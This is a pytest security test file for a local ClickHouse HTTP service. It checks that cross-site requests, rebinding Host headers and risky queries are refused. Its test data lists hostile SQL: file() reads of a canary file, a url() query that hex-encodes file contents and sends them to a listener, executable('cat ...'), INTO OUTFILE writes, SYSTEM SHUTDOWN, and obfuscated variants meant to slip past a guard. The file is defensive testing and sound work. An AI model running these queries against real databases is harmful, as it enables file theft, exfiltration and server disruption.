"""The doors of the local ClickHouse: who may call, and that no statement gets out of its tables."""

from __future__ import annotations

import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest

from kit.clickhouse_process import READY_S, ClickHouseProcess
from kit.clickhouse_requests import ask

pytestmark = pytest.mark.services

CANARY = "canary-4711"


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    path = tmp_path / "canary.csv"
    path.write_text(CANARY + "\n")
    return path


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """A server on loopback that nobody may connect to."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(0)
        yield listening


def was_called(listening: socket.socket) -> bool:
    try:
        listening.accept()[0].close()
    except BlockingIOError:
        return False
    return True


@pytest.mark.parametrize("method", ["GET", "POST"])
@pytest.mark.parametrize(
    "headers",
    [
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
        {"Sec-Fetch-Site": "CROSS-SITE"},
        {"Sec-Fetch-Site": ""},
        {"Origin": "http://example.org"},
        {"Origin": "null"},
        {"Origin": "http://127.0.0.1:1"},
        {"Host": "evil.example"},
        {"Host": "evil.example:{port}"},
        {"Host": "127.0.0.1.evil.example:{port}"},
        {"Host": "127.0.0.1"},
        {"Host": "127.0.0.1:1"},
        {"Host": ""},
    ],
)
def test_no_page_in_a_browser_and_no_foreign_name_is_answered(
    server: ClickHouseProcess, headers: dict[str, str], method: str
) -> None:
    """S1: an image or a script of a foreign page, and a page whose name was pointed at 127.0.0.1."""
    named = {name: value.format(port=server.port) for name, value in headers.items()}
    status, told = ask(server, "SELECT 7", method, named)
    assert (status, "497" in told) == (403, True)


@pytest.mark.parametrize("head", ["", "Host: localhost:{0}\r\nHost: localhost:{0}\r\n"])
def test_the_host_is_named_once(server: ClickHouseProcess, head: str) -> None:
    """S1: no Host at all, or two of them."""
    with socket.create_connection(("127.0.0.1", server.port), READY_S) as peer:
        peer.sendall(b"GET /?query=SELECT+7 HTTP/1.0\r\n" + head.format(server.port).encode() + b"\r\n")
        answer = b"".join(iter(lambda: peer.recv(1 << 16), b""))
    assert answer.split()[1] in (b"403", b"400")
    assert not answer.endswith(b"7\n")


@pytest.mark.parametrize("name", ["127.0.0.1", "localhost", "LocalHost", "[::1]"])
def test_the_names_of_loopback_are_answered(server: ClickHouseProcess, name: str) -> None:
    own = f"{name}:{server.port}"
    headers = {"Host": own, "Sec-Fetch-Site": "same-origin", "Origin": f"http://{own}"}
    assert ask(server, "SELECT 7", headers=headers) == (200, "7\n")
    assert ask(server, "SELECT 7", "GET", {"Host": own, "Sec-Fetch-Site": "none"}) == (200, "7\n")


def test_get_neither_writes_nor_reaches_files_or_addresses(
    server: ClickHouseProcess, table: str, canary: Path, listener: socket.socket
) -> None:
    """S1: GET of the owner of the data, as `<img src>` sends it."""
    written = canary.with_name("written")
    address = f"http://127.0.0.1:{listener.getsockname()[1]}/"
    for sql in (
        f"SELECT file('{canary}')",
        f"SELECT * FROM file('{canary}', 'CSV', 'a String')",
        f"SELECT * FROM url(concat('{address}?d=', hex(file('{canary}'))), LineAsString)",
        f"SELECT 'x' AS a$b$ INTO OUTFILE '{written}' APPEND FORMAT TSVRaw -- $b$",
        f"INSERT INTO {table} (a) VALUES (1)",
        f"INSERT INTO FUNCTION file('{written}', 'CSV', 'a String') SELECT 'x'",
        f"SELECT * FROM s3('{address}x.csv')",
    ):
        for method in ("GET", "HEAD"):
            status, told = ask(server, sql, method)
            assert status != 200, sql
            assert CANARY not in told
    assert not written.exists()
    assert not was_called(listener)
    assert ask(server, f"SELECT count() FROM {table}", "GET") == (200, "0\n")


HIDDEN = [
    "SELECT file('{canary}')",
    "SELECT 1 AS a$b$, file('{canary}') -- $b$",
    "SELECT \u2018'\u2019, file('{canary}') -- '",
    "SELECT \u201c\"\u201d, file('{canary}') -- \"",
    "SELECT FILE('{canary}')",
    "SELECT `file`('{canary}')",
    "SELECT /* */ file /**/ ('{canary}')",
    "SELECT * APPLY(file) FROM (SELECT '{canary}' AS x)",
    "SELECT * APPLY(x -> file(x)) FROM (SELECT '{canary}' AS x)",
    "SELECT * REPLACE (file(x) AS x) FROM (SELECT '{canary}' AS x)",
    "SELECT arrayMap(x -> file(x), ['{canary}'])",
    "WITH x -> file(x) AS f SELECT f('{canary}')",
    "SELECT 1 ORDER BY 1 WITH FILL INTERPOLATE (b AS file('{canary}'))",
    "SELECT throwIf(1, file('{canary}'))",
    "SHOW TABLES WHERE name = file('{canary}')",
    "EXPLAIN SYNTAX SELECT * FROM file('{canary}')",
    "EXPLAIN SELECT file('{canary}')",
    "SELECT * FROM (EXPLAIN QUERY TREE SELECT file('{canary}'))",
    "DESCRIBE TABLE file('{canary}')",
    "DESCRIBE (SELECT file('{canary}'))",
    "SELECT * FROM file('{canary}', 'CSV', 'a String')",
    "SELECT 'x' IN file('{canary}', 'CSV', 'a String')",
    "SELECT 'x' IN format(Values, $$('x', file('{canary}'))$$)",
    "SELECT * FROM format(Values, 'a String', $$(file('{canary}'))$$)",
    "SELECT * FROM eval($$SELECT file('{canary}')$$)",
    "SELECT * FROM view(SELECT file('{canary}'))",
    "SELECT * FROM `{canary}`",
    "SELECT * FROM default.`{canary}`",
    "SELECT 1 FORMAT Template SETTINGS format_template_row = '{canary}'",
    "SELECT 1 SETTINGS additional_result_filter = $$file('{canary}') = ''$$",
    "SELECT 1 SETTINGS dialect = 'kusto'",
    "SELECT 'r' AS a$b$ INTO OUTFILE '{written}' FORMAT TSVRaw -- $b$",
    "SELECT 1 INTO OUTFILE '{written}'",
    "SELECT 1 INTO OUTFILE '{written}' APPEND AND STDOUT",
    "SHOW TABLES INTO OUTFILE '{written}'",
    "SELECT 1; SELECT file('{canary}')",
    "SELECT 1;SELECT 2",
    "SELECT * FROM url('{address}', LineAsString)",
    "SELECT * FROM remote('{peer}', system.one)",
    "SELECT * FROM mysql('{peer}', 'a', 'b', 'c', 'd')",
    "SELECT hasColumnInTable('{peer}', 'd', 't', 'c')",
    "SELECT * FROM executable('cat {canary}', 'LineAsString', 'a String')",
    "SELECT * FROM python(canary)",
    "SELECT * FROM merge('system', '.*')",
    "SELECT * FROM mergeTreeIndex('default', 't')",
    "SELECT * FROM loop(system.one)",
    "SELECT * FROM cluster('default', system.one)",
    "SELECT * FROM dictionary('d')",
    "SELECT dictGet('d', 'a', 1)",
    "SELECT * FROM input('a String')",
    "SELECT * FROM system.stack_trace",
    "SELECT * FROM system.`named_collections`",
    "SELECT 1 IN system.user_directories",
    "SELECT getServerSetting('x')",
    "SYSTEM SHUTDOWN",
    "BACKUP DATABASE default TO File('{written}')",
]


@pytest.mark.parametrize("args", [{"user": "reader"}, {"readonly": "1"}, {"readonly": "2"}, {}])
def test_nothing_reaches_a_file_or_an_address_whatever_is_typed(
    server: ClickHouseProcess, canary: Path, listener: socket.socket, args: dict[str, str]
) -> None:
    """S2: what a second lexer hid from the guard; and for the owner of the data as for the reader."""
    written = canary.with_name("written")
    port = listener.getsockname()[1]
    names = {"canary": canary, "written": written, "address": f"http://127.0.0.1:{port}/", "peer": f"127.0.0.1:{port}"}
    for text in HIDDEN:
        sql = text.format(**names)
        status, told = ask(server, sql, "POST", None, **args)
        assert (status != 200, CANARY in told) == (True, False), (sql, told)
    assert not written.exists()
    assert not was_called(listener)


@pytest.mark.parametrize(
    "sql",
    [
        "INSERT INTO {table} (b) VALUES (file('{canary}'))",
        "INSERT INTO {table} (b) FORMAT Values (file('{canary}'))",
        "INSERT INTO {table} (b) SETTINGS input_format_values_interpret_expressions = 1 VALUES (file('{canary}'))",
        "INSERT INTO {table} (b) SELECT file('{canary}')",
        "INSERT INTO {table} (b) FROM INFILE '{canary}' FORMAT CSV",
        "INSERT INTO FUNCTION file('{canary}', 'CSV', 'a String') /* FORMAT CSV 1",
        "INSERT INTO {table} (b) SELECT * FROM input('b String') FORMAT CSV",
        "CREATE TABLE odd (a String DEFAULT file('{canary}')) ENGINE = Memory",
        "CREATE TABLE odd (a String) ENGINE = File(CSV, '{canary}')",
        "CREATE TABLE odd AS file('{canary}')",
        "CREATE TABLE odd (a Int8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = local, path = '/tmp/')",
        "CREATE VIEW odd AS SELECT file('{canary}')",
        "CREATE DATABASE odd ENGINE = Filesystem('/')",
        "CREATE DICTIONARY odd (a UInt64) PRIMARY KEY a SOURCE(FILE(path '{canary}' format 'CSV')) LAYOUT(FLAT())",
        "CREATE FUNCTION odd AS x -> file(x)",
        "ATTACH TABLE odd FROM '{canary}' (a Int8) ENGINE = Memory",
        "ALTER TABLE {table} ADD COLUMN c String DEFAULT file('{canary}')",
        "ALTER TABLE {table} UPDATE b = file('{canary}') WHERE 1",
        "ALTER TABLE {table} FREEZE",
        "SET dialect = 'kusto'",
        "SET param_x = '{canary}'",
        "USE system",
    ],
)
def test_what_is_stored_reaches_no_file_either(server: ClickHouseProcess, table: str, canary: Path, sql: str) -> None:
    """S2: off for everyone, the parts' own user too."""
    status, told = ask(server, sql.format(table=table, canary=canary))
    assert (status != 200, CANARY in told) == (True, False), told
    assert ask(server, f"SELECT count() FROM {table}") == (200, "0\n")
    assert ask(server, "SELECT count() FROM system.tables WHERE name = 'odd'") == (200, "0\n")


def test_many_values_are_literals(server: ClickHouseProcess, table: str, canary: Path) -> None:
    """S2: VALUES too many to be judged are data: nothing in them is evaluated."""
    plain = "('it''s')," * 20_000
    assert ask(server, f"INSERT INTO {table} (b) VALUES {plain}")[0] == 200
    status, told = ask(server, f"INSERT INTO {table} (b) VALUES {plain}(file('{canary}'))")
    assert (status != 200, CANARY in told) == (True, False)
    assert ask(server, f"SELECT count(), any(b) FROM {table}") == (200, "20000\tit\\'s\n")


@pytest.mark.parametrize("name", ["/etc/hosts", "system", "a.csv", "x\ny", ""])
def test_a_name_that_comes_as_a_parameter_is_a_name(server: ClickHouseProcess, name: str) -> None:
    """S2: the tree of a statement is judged once, its parameters in each call."""
    for source in ("FROM {t:Identifier}", "FROM {t:Identifier}.stack_trace", "WHERE 1 IN {t:Identifier}"):
        sql = f"SELECT 1 {source}"
        status, told = ask(server, sql, param_t=name)
        assert (status, "497" in told) == (403, True), sql


def test_a_file_of_the_working_directory_is_no_table(server: ClickHouseProcess) -> None:
    """S2: the engine takes a name that it does not know for a file beside it."""
    for name in ("Makefile", "LICENSE"):
        assert (Path.cwd() / name).exists(), "the server was started here, too"
        assert ask(server, f"SELECT * FROM {name}")[0] == 404


def test_a_server_without_a_password_listens_on_loopback_only(tmp_path: Path) -> None:
    """S23: whoever reached it would own the data."""
    command = [sys.executable, "-m", "axonstream.local.clickhouse_http", str(tmp_path / "data"), "--port", "1"]
    for host in ("0.0.0.0", "::", "192.0.2.1"):
        refused = subprocess.run(
            [*command, "--host", host],
            env={"PATH": "", "PYTHONPATH": ":".join(sys.path)},
            capture_output=True,
            text=True,
            timeout=READY_S,
            check=False,
        )
        assert (refused.returncode, refused.stderr.count("\n")) == (1, 1)
        assert "AXONSTREAM_CLICKHOUSE_PASSWORD" in refused.stderr
